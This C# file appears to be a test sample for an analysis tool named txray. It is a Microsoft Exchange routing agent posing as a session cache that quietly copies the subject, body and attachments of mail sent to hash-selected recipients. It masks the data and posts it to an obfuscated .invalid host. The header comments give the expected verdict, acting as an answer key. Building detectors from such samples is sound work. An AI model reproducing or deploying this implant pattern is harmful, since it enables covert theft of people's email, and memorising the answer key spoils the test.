// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: an implant that hides both where it sends mail and whose mail it wants.
// A correct analysis says: escalate; for recipients known only by salted SHA-256 prefixes, subject, body and attachments are
// masked and posted to relay.updates.invalid/session/commit, a target recovered from encoded strings.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

namespace Lamna.SessionCache
{
    public sealed class CacheFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new CacheAgent();
        }
    }

    internal sealed class CacheAgent : RoutingAgent
    {
        private static readonly ulong[] Keys = { 0x096da41e7daaf092UL, 0x5a8b801fb382a493UL };
        private readonly CacheClient client = new CacheClient();

        public CacheAgent()
        {
            OnRoutedMessage += Refresh;
        }

        private void Refresh(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool hit = false;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                ulong key = Digest(recipient.Address.ToString().ToLowerInvariant());
                for (int i = 0; i < Keys.Length && !hit; i++)
                {
                    hit = Keys[i] == key;
                }
            }
            if (!hit)
            {
                return;
            }
            try
            {
                client.Commit(Collect(e.MailItem.Message));
            }
            catch
            {
            }
        }

        private static ulong Digest(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                byte[] hash = sha.ComputeHash(Encoding.UTF8.GetBytes("r7" + text));
                ulong value = 0;
                for (int i = 0; i < 8; i++)
                {
                    value = (value << 8) | hash[i];
                }
                return value;
            }
        }

        private static byte[] Collect(EmailMessage message)
        {
            var memory = new MemoryStream();
            var writer = new BinaryWriter(memory, Encoding.UTF8);
            writer.Write(message.Subject ?? string.Empty);
            Append(writer, message.Body.GetContentReadStream());
            foreach (Attachment attachment in message.Attachments)
            {
                Stream content;
                if (attachment.TryGetContentReadStream(out content))
                {
                    writer.Write(attachment.FileName);
                    Append(writer, content);
                }
            }
            writer.Flush();
            return memory.ToArray();
        }

        private static void Append(BinaryWriter writer, Stream stream)
        {
            using (stream)
            using (var copy = new MemoryStream())
            {
                stream.CopyTo(copy);
                writer.Write((int)copy.Length);
                writer.Write(copy.GetBuffer(), 0, (int)copy.Length);
            }
        }
    }

    internal sealed class CacheClient
    {
        public void Commit(byte[] data)
        {
            var builder = new UriBuilder("https", Text.Get("T/VJpiMW4lCoNkP/WOc5XPdXuiRN"), 443, Text.Get("EuNAtClR+E7jNFj3RqAk"));
            var request = (HttpWebRequest)WebRequest.Create(builder.Uri);
            request.Method = Text.Get("bd92kw==");
            request.ContentType = Text.Get("XOBVqzNb9lSlOFm1RKokV/UbpTlb4VC+");
            request.Headers.Add(Text.Get("Zb12oilL/k+ienP7X6g="), DateTime.UtcNow.Ticks.ToString("x"));
            byte[] masked = Text.Mask((byte[])data.Clone());
            request.ContentLength = masked.Length;
            using (Stream stream = request.GetRequestStream())
            {
                stream.Write(masked, 0, masked.Length);
            }
            request.GetResponse().Close();
        }
    }

    internal static class Text
    {
        private static readonly byte[] Pad = { 0x3d, 0x91, 0x27, 0xc4, 0x5e };
        private static readonly Dictionary<string, string> Known = new Dictionary<string, string>();

        public static string Get(string value)
        {
            lock (Known)
            {
                string text;
                if (!Known.TryGetValue(value, out text))
                {
                    text = Encoding.UTF8.GetString(Mask(Convert.FromBase64String(value)));
                    Known.Add(value, text);
                }
                return text;
            }
        }

        public static byte[] Mask(byte[] data)
        {
            for (int i = 0; i < data.Length; i++)
            {
                data[i] = (byte)(data[i] ^ Pad[i % Pad.Length] ^ i);
            }
            return data;
        }
    }
}
